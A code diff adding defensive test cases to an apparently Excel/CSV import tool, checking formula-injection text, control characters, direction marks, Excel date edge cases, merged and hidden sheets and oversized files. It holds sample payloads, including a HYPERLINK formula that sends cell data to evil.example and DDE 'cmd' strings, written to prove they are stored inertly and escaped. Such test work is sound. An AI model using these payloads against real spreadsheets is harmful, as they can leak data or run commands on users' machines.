@@ -508,6 +508,203 @@ CASES = [
          "invalid", rule="mixed_layout", cell="observations!E1"),
 ]
 
+
+# -- builders and checks for the hostile-text, date, layout and size cases (issue 7) ------------------
+
+
+def text_cells_xlsx(table: str, *dicts: dict, name: str = "text.xlsx") -> Callable[[Path], Path]:
+    """A workbook whose text values are stored as text cells, even those starting with '=' (which openpyxl
+    would otherwise write as formulas): what Excel saves when a cell is formatted as text or starts with '."""
+    def build(tmp: Path) -> Path:
+        wb = openpyxl.Workbook()
+        ws = wb.active
+        ws.title = table
+        ws.append(header(table))
+        for values in dicts:
+            ws.append(row(table, **values))
+        for line in ws.iter_rows(min_row=2):
+            for cell in line:
+                if isinstance(cell.value, str):
+                    cell.data_type = "s"
+        path = tmp / name
+        wb.save(path)
+        return path
+    return build
+
+
+def with_epoch_1904(table: str, *dicts: dict) -> Callable[[Path], Path]:
+    """A workbook in the 1904 date system (old Mac Excel): date cells count from 1904-01-01."""
+    def build(tmp: Path) -> Path:
+        from openpyxl.utils.datetime import CALENDAR_MAC_1904
+
+        wb = openpyxl.Workbook()
+        wb.epoch = CALENDAR_MAC_1904
+        ws = wb.active
+        ws.title = table
+        ws.append(header(table))
+        for values in dicts:
+            ws.append(row(table, **values))
+        path = tmp / "mac1904.xlsx"
+        wb.save(path)
+        return path
+    return build
+
+
+def merged(rows: list[list], ranges: list[str], table: str = "observations",
+           name: str = "merged.xlsx") -> Callable[[Path], Path]:
+    def build(tmp: Path) -> Path:
+        wb = openpyxl.Workbook()
+        ws = wb.active
+        ws.title = table
+        for values in rows:
+            ws.append(values)
+        for cells in ranges:
+            ws.merge_cells(cells)
+        path = tmp / name
+        wb.save(path)
+        return path
+    return build
+
+
+def thousand_sheets(tmp: Path) -> Path:
+    sheets = {"observations": table_rows("observations", [obs()])}
+    sheets.update({f"s{i:03d}": [["x"]] for i in range(999)})
+    return write_xlsx(tmp / "thousand.xlsx", sheets)
+
+
+def full_width_sheet(tmp: Path) -> Path:
+    """A header across all 16,384 columns Excel has (A … XFD)."""
+    wide = header("observations")[:4] + [f"c{i}" for i in range(16_384 - 4)]
+    return write_xlsx(tmp / "xfd.xlsx", {"observations": [wide, row("observations", **obs())[:4]]})
+
+
+def full_width_sheet_no_dimension(tmp: Path) -> Path:
+    return patch_sheet_xml(full_width_sheet(tmp), tmp / "xfd_nodim.xlsx", "observations", drop_dimension)
+
+
+FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                 "@SUM(A1:A9)", "=1+2"]
+LONG_TEXT = "Pitkä kuvaus äöõüšž " * 1_700  # 34,000 characters, more than an Excel cell holds (32,767)
+RTL_TEXT = "שלום מרחבא – Helsinki"  # Hebrew and Arabic letters are text, not direction marks
+EMOJI_TEXT = "👩🏽‍💻 commuter 🇫🇮🇪🇪 ferry ⛴️ 🚢 – 1️⃣ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢"
+
+
+def check_title(expected: str, code: str = "BN-003") -> Callable[[Store, ImportReport], None]:
+    def check(store: Store, report: ImportReport) -> None:
+        assert store.query("SELECT title_en FROM bottlenecks WHERE code = ?", [code]) == [(expected,)]
+    return check
+
+
+def check_event_text(expected: dict[str, str]) -> Callable[[Store, ImportReport], None]:
+    def check(store: Store, report: ImportReport) -> None:
+        got = store.query("SELECT note, who FROM bottleneck_events WHERE bottleneck = 'BN-002' AND seq = 7")
+        assert got == [(expected["note"], expected["who"])]
+    return check
+
+
+HOSTILE_CASES = [
+    # -- formula injection: text that a spreadsheet would run is stored as text (and escaped on export)
+    Case("formula_text_in_text_cell", text_cells_xlsx("bottlenecks", bn(title_en=FORMULA_TEXTS[0])), "applied",
+         check=check_title(FORMULA_TEXTS[0])),
+    Case("formula_text_dde_in_csv", csv_of("bottlenecks", bn(title_en=FORMULA_TEXTS[1])), "applied",
+         check=check_title(FORMULA_TEXTS[1])),
+    Case("formula_text_minus_in_csv", csv_of("bottlenecks", bn(title_en=FORMULA_TEXTS[2])), "applied",
+         check=check_title(FORMULA_TEXTS[2])),
+    Case("formula_text_in_number_column", text_cells_xlsx("observations", obs(value="=1+2")), "invalid",
+         rule="not_a_number", cell="observations!D2"),
+    Case("formula_text_in_code", csv_of("bottlenecks", bn(code="=BN-003")), "invalid", rule="bad_text",
+         cell="bottlenecks!A2"),
+    # -- very long strings
+    Case("text_longer_than_an_excel_cell", csv_of("bottlenecks", bn(description_en=LONG_TEXT)), "invalid",
+         rule="bad_text", cell="bottlenecks!F2", contains="at most 4,000", hostile=True),
+    Case("code_too_long", xlsx_of("bottlenecks", bn(code="BN-" + "9" * 40)), "invalid", rule="bad_text",
+         cell="bottlenecks!A2"),
+    Case("one_megabyte_csv_cell", csv_of("observations", obs(note="x" * 1_000_000)), "invalid", rule="bad_text",
+         cell="observations!H2", contains="at most 1,000", hostile=True),
+    Case("long_text_at_the_limit", xlsx_of("bottlenecks", bn(title_en="ä" * 300)), "applied",
+         check=check_title("ä" * 300)),
+    # -- control characters and direction marks
+    Case("c1_control_character", csv_of("bottlenecks", bn(title_en="Ferry\x9b31mqueue")), "invalid",
+         rule="bad_text", cell="bottlenecks!C2", contains="control characters"),
+    Case("terminal_escape_sequence", csv_of("bottlenecks", bn(title_en="Ferry \x1b[31mred\x1b[0m")), "invalid",
+         rule="bad_text", cell="bottlenecks!C2"),
+    Case("vertical_tab", csv_of("bottlenecks", bn(title_fi="Lautta\x0bjono")), "invalid", rule="bad_text",
+         cell="bottlenecks!D2"),
+    Case("nul_inside_an_xlsx_text", patched_xlsx(lambda xml: xml.replace(b"<t>FI-091</t>", b"<t>FI-&#x0;091</t>", 1),
+                                                 "nul.xlsx"),
+         "refused", reason="unreadable", hostile=True),
+    Case("right_to_left_mark", xlsx_of("bottlenecks", bn(title_en="Invoice\u200f.pdf")), "invalid",
+         rule="bad_text", cell="bottlenecks!C2", contains="direction marks"),
+    Case("left_to_right_mark_in_name", xlsx_of("bottlenecks", bn(owner_fi="Vero\u200e")), "invalid",
+         rule="bad_text", cell="bottlenecks!P2"),
+    Case("arabic_letter_mark", xlsx_of("bottlenecks", bn(title_et="x\u061cy")), "invalid", rule="bad_text",
+         cell="bottlenecks!E2"),
+    Case("right_to_left_isolate", csv_of("bottlenecks", bn(title_en="abc\u2067fdp.exe\u2069")), "invalid",
+         rule="bad_text", cell="bottlenecks!C2"),
+    Case("right_to_left_script_is_text", xlsx_of("bottlenecks", bn(title_en=RTL_TEXT)), "applied",
+         check=check_title(RTL_TEXT)),
+    # -- emoji
+    Case("emoji_sequences_round_trip", xlsx_of("bottleneck_events", dict(
+        bottleneck="BN-002", date=dt.date(2024, 5, 1), seq=7, status="analysed", note=EMOJI_TEXT, who="Tiina 🙂")),
+         "applied", check=check_event_text({"note": EMOJI_TEXT, "who": "Tiina 🙂"})),
+    Case("emoji_in_code", xlsx_of("bottlenecks", bn(code="BN-🚢")), "invalid", rule="bad_text",
+         cell="bottlenecks!A2"),
+    Case("emoji_in_csv_without_bom", csv_of("bottlenecks", bn(title_en="Lautta ⛴️ äöõüšž")), "applied",
+         check=check_title("Lautta ⛴️ äöõüšž")),
+    # -- dates before 1900 and around Excel's serial 60
+    Case("date_cell_before_1900", xlsx_of("bottlenecks", bn(identified_on=dt.date(1899, 12, 30))), "invalid",
+         rule="bad_date", cell="bottlenecks!S2", contains="1900-01-01"),
+    Case("datetime_cell_1800", xlsx_of("bottlenecks", bn(identified_on=dt.datetime(1800, 1, 1, 12, 0))),
+         "invalid", rule="bad_date", cell="bottlenecks!S2"),
+    Case("date_serial_0", xlsx_of("bottlenecks", bn(identified_on=0)), "invalid", rule="bad_date",
+         cell="bottlenecks!S2"),
+    Case("date_serial_negative", xlsx_of("bottlenecks", bn(identified_on=-30)), "invalid", rule="bad_date",
+         cell="bottlenecks!S2"),
+    Case("date_serial_1", xlsx_of("bottlenecks", bn(identified_on=1)), "applied",
+         check=check_identified_on(dt.date(1900, 1, 1))),
+    Case("date_serial_59", xlsx_of("bottlenecks", bn(identified_on=59)), "applied",
+         check=check_identified_on(dt.date(1900, 2, 28))),
+    Case("date_serial_61", xlsx_of("bottlenecks", bn(identified_on=61)), "applied",
+         check=check_identified_on(dt.date(1900, 3, 1))),
+    Case("date_serial_45382", xlsx_of("bottlenecks", bn(identified_on=45382)), "applied",
+         check=check_identified_on(dt.date(2024, 3, 31))),
+    Case("date_cell_1900_02_28", xlsx_of("bottlenecks", bn(identified_on=dt.date(1900, 2, 28))), "applied",
+         check=check_identified_on(dt.date(1900, 2, 28))),
+    Case("date_system_1904", with_epoch_1904("bottlenecks", bn(identified_on=dt.date(2024, 3, 31))), "applied",
+         check=check_identified_on(dt.date(2024, 3, 31))),
+    # -- merged cells
+    Case("merged_title_row_above_header", merged([["Bottlenecks 2024"], header("bottlenecks"),
+                                                  row("bottlenecks", **bn())], ["A1:F1"], "bottlenecks"),
+         "invalid", rule="missing_column", cell="bottlenecks!1:1", contains="(row 1)"),
+    Case("merged_header_cells", merged([header("observations")[:4] + [None], row("observations", **obs())[:4]],
+                                       ["D1:E1"]),
+         "applied", check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
+    Case("merged_key_cells_in_body", merged([header("observations")[:4], row("observations", **obs())[:4],
+                                             row("observations", **obs(period="2024", value=1.0))[:4]],
+                                            ["A2:A3"]),
+         "invalid", rule="required", cell="observations!A3"),
+    # -- hidden sheets
+    Case("very_hidden_data_sheet", lambda tmp: _very_hidden(tmp), "applied", rule="hidden_sheet",
+         cell="observations!A1", check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
+    # -- absurd sizes
+    Case("thousand_sheets", thousand_sheets, "refused", reason="too_many_sheets", hostile=True),
+    Case("all_16384_columns", full_width_sheet, "refused", reason="too_many_cells", hostile=True),
+    Case("all_16384_columns_undeclared", full_width_sheet_no_dimension, "refused", reason="too_many_cells",
+         hostile=True),
+]
+
+
+def _very_hidden(tmp: Path) -> Path:
+    path = write_xlsx(tmp / "src.xlsx", {"README": [["Fill the observations sheet"]],
+                                         "observations": table_rows("observations", [obs()])})
+    wb = openpyxl.load_workbook(path)
+    wb["observations"].sheet_state = "veryHidden"
+    wb.save(tmp / "very_hidden.xlsx")
+    return tmp / "very_hidden.xlsx"
+
+
+CASES += HOSTILE_CASES
+
 assert len({c.id for c in CASES}) == len(CASES)
 
 
@@ -680,3 +877,91 @@ def test_header_below_blank_rows_and_right_of_blank_columns(store: Store, tmp_pa
     wb.save(path)
     report = import_file(store, path)
     assert [(p.rule, p.cell) for p in report.problems] == [("not_a_number", "observations!E5")], describe(report)
+
+
+# -- round trips: hostile text and every text field, import → database → export → import --------------
+
+
+def test_hostile_text_round_trips_and_exports_escaped(store: Store, tmp_path: Path) -> None:
+    """Formula-like, right-to-left, emoji and maximum-length text is stored exactly, leaves the app escaped in
+    CSV/XLSX downloads, stays text in the template export, and that export imports back unchanged."""
+    import io
+
+    from factories import snapshot as full_snapshot
+
+    from twinreg_data.exports import to_csv_bytes, to_xlsx_bytes
+    from twinreg_data.template import export_workbook
+
+    titles = [*FORMULA_TEXTS, RTL_TEXT, EMOJI_TEXT, "ä" * 300, "Ääkköset: äöõüšž ÄÖÕÜŠŽ"]
+    rows = [bn(code=f"BN-{100 + i}", title_en=title) for i, title in enumerate(titles)]
+    report = import_file(store, text_cells_xlsx("bottlenecks", *rows)(tmp_path), user="tester")
+    assert report.status == "applied", describe(report)
+    stored = store.query_df("SELECT code, title_en FROM bottlenecks WHERE code >= 'BN-100' ORDER BY code")
+    assert stored["title_en"].tolist() == titles
+    # Downloads: a cell that would run as a formula gets a leading apostrophe; the rest is unchanged.
+    back = io.StringIO(to_csv_bytes(stored).decode("utf-8-sig"))
+    import csv
+
+    csv_titles = [r["title_en"] for r in csv.DictReader(back)]
+    assert csv_titles == ["'" + t if t[0] in "=+-@" else t for t in titles]
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(stored))).active
+    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)
+    assert [line[1] for line in sheet.iter_rows(min_row=2, values_only=True)] == csv_titles
+    # The template export keeps the text as text cells (nothing Excel would run) …
+    exported = export_workbook(store, tmp_path / "export.xlsx")
+    cells = {c.value: c.data_type for line in openpyxl.load_workbook(exported)["bottlenecks"].iter_rows()
+             for c in line if c.value in titles}
+    assert set(cells) == set(titles) and set(cells.values()) == {"s"}
+    # … and imports back as exactly what is stored.
+    before = full_snapshot(store)
+    again = import_file(store, exported, user="tester")
+    assert again.status == "nothing_to_do", describe(again)
+    assert full_snapshot(store) == before
+
+
+def _estonian_everywhere(sheets: dict[str, list[list]]) -> dict[str, list[list]]:
+    """Put äöõüšž (and their capitals) into every free-text cell of every table."""
+    from twinreg_data.schema import TABLES_BY_NAME
+
+    out = {}
+    for name, table_rows_ in sheets.items():
+        table = TABLES_BY_NAME[name]
+        columns = table_rows_[0]
+        rows = [table_rows_[0]]
+        for values in table_rows_[1:]:
+            values = list(values)
+            for j, column in enumerate(columns):
+                col = table.column(column)
+                if col.kind != "text" or column in table.key or (col.pattern and column != "url"):
+                    continue
+                text = f"{values[j] or column} – äöõüšž ÄÖÕÜŠŽ"
+                values[j] = (text if column != "url" else "https://example.fi/äöõüšž ÄÖÕÜŠŽ".replace(" ", "-"))[
+                    :col.max_length]
+            rows.append(values)
+        out[name] = rows
+    return out
+
+
+def test_every_text_field_round_trips_with_estonian_letters(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from factories import base_sheets, extra_sheets, new_store
+
+    from twinreg_data.schema import TABLES
+    from twinreg_data.template import export_workbook
+
+    monkeypatch.setenv("TWINREG_BACKUP_KEEP", "0")
+    sheets = _estonian_everywhere({**base_sheets(), **extra_sheets()})
+    first = new_store(tmp_path, "first.duckdb")
+    report = import_file(first, write_xlsx(tmp_path / "letters.xlsx", sheets), user="tester")
+    assert report.status == "applied", describe(report)
+    text_columns = [(t.name, c.name) for t in TABLES for c in t.columns
+                    if c.kind == "text" and c.name not in t.key and (not c.pattern or c.name == "url")]
+    for table, column in text_columns:
+        values = [r[0] for r in first.query(f'SELECT "{column}" FROM "{table}"')]
+        assert values and all("äöõüšž" in v and "ÄÖÕÜŠŽ" in v for v in values), (table, column, values)
+    exported = export_workbook(first, tmp_path / "export.xlsx")
+    second = new_store(tmp_path, "second.duckdb")
+    assert import_file(second, exported, user="tester").status == "applied"
+    assert snapshot(second) == snapshot(first)  # every table, every column, byte for byte
+    assert import_file(first, exported, user="tester").status == "nothing_to_do"
+    first.close()
+    second.close()
